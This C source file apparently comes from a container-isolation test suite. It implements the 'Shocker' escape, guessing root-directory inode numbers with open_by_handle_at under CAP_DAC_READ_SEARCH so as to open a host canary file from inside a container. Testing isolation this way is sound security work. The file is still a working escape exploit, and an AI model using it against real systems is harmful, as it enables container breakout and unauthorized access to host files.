/* SPDX-License-Identifier: MIT */
/*
 * Shocker: open_by_handle_at opens an inode by its number, wherever it lies in the file system of any descriptor that
 * one has, names, mounts and modes notwithstanding. Docker before 1.0 left containers CAP_DAC_READ_SEARCH. The root
 * directory is inode 2 on ext4, 128 on xfs (or whatever it was made with), 256 on btrfs (not tried: it needs its id).
 */
#include "attack.h"

#include <fcntl.h>
#include <stdint.h>

struct handle {
    struct file_handle head;
    uint32_t inode, generation;
};

int main(void)
{
    static const uint32_t roots[] = {2, 64, 96, 128};
    const char *canary = scene("SN_CANARY");
    int mount = open("/usr/bin", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int error = 0;

    if (mount < 0)
        held_by_errno("/usr/bin");
    for (size_t i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
        struct handle handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .inode = roots[i]};
        int root = open_by_handle_at(mount, &handle.head, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        int fd;

        if (root < 0) {
            error = errno;
            if (error == EPERM)
                break;
            continue;
        }
        fd = openat(root, canary + 1, O_RDONLY | O_CLOEXEC);
        if (fd >= 0)
            show(fd);
        breach("it opened the root directory of the host's file system by its inode");
    }
    errno = error;
    if (errno == ESTALE || errno == EOPNOTSUPP)
        cannot("no inode of a root directory is known for this file system: %s", strerror(errno));
    held_by_errno("open_by_handle_at");
}
